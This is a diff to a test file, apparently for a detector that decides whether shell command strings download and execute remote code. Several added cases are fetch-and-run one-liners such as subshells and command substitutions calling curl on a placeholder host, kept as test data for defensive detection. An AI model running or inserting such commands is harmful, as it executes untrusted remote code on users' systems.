@@ -114,6 +114,9 @@ describe('what is evaluated', () => {
 		"[scriptblock]::create((iwr 'http://h.example/i'))",
 		'sh <(curl http://h.example/i)',
 		'. <(curl http://h.example/i)',
+		'( $(curl http://h.example/i) )',
+		'( X=$(curl http://h.example/i); $X )',
+		'{ $(curl http://h.example/i); }',
 	])('is run: %j', (text) => {
 		expect(loadsOf(text)).toContain(2)
 	})
@@ -123,6 +126,8 @@ describe('what is evaluated', () => {
 		'echo eval; echo "$(curl http://h.example/i)"',
 		'diff <(curl http://h.example/i) f',
 		'curl http://h.example/i > >(cat)',
+		'sh a > "$(curl http://h.example/i)"',
+		'cat f | sort > "$(curl http://h.example/i)"',
 	])('is not run: %j', (text) => {
 		expect(loadsOf(text)).toEqual([])
 	})
